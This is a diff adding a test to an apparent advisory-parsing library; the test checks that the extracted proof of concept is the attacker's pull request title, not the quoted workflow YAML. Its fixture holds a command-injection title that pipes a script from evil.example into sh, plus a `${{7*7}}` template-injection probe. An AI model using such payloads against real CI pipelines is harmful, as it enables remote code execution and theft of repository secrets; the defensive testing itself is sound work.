@@ -235,4 +235,24 @@ describe('an advisory of a workflow that a public issue sets off', () => {
     const header = '        title: SQL Injection\n      product: Acme Forum Plugin\n           by: Jane Roe\n';
     expect(fields(header).component).toBe('Acme Forum Plugin');
   });
+
+  it('takes no quoted workflow for the PoC: the title the attacker writes is it', () => {
+    const text = [
+      'The workflow below runs on every pull request:',
+      '',
+      '```yaml',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - name: Check PR title',
+      '        run: |',
+      '          title="${{ github.event.pull_request.title }}"',
+      '```',
+      '',
+      'A pull request titled `a"; curl http://evil.example/x | sh #` runs the attacker\'s commands.',
+    ].join('\n');
+    const f = fields(text);
+    expect(String(f.poc)).not.toMatch(/runs-on|github\.event/);
+    // A template expression in a payload is still one.
+    expect(fields('Send the name `${{7*7}}` and the page shows 49.').poc).toMatch(/7\*7/);
+  });
 });
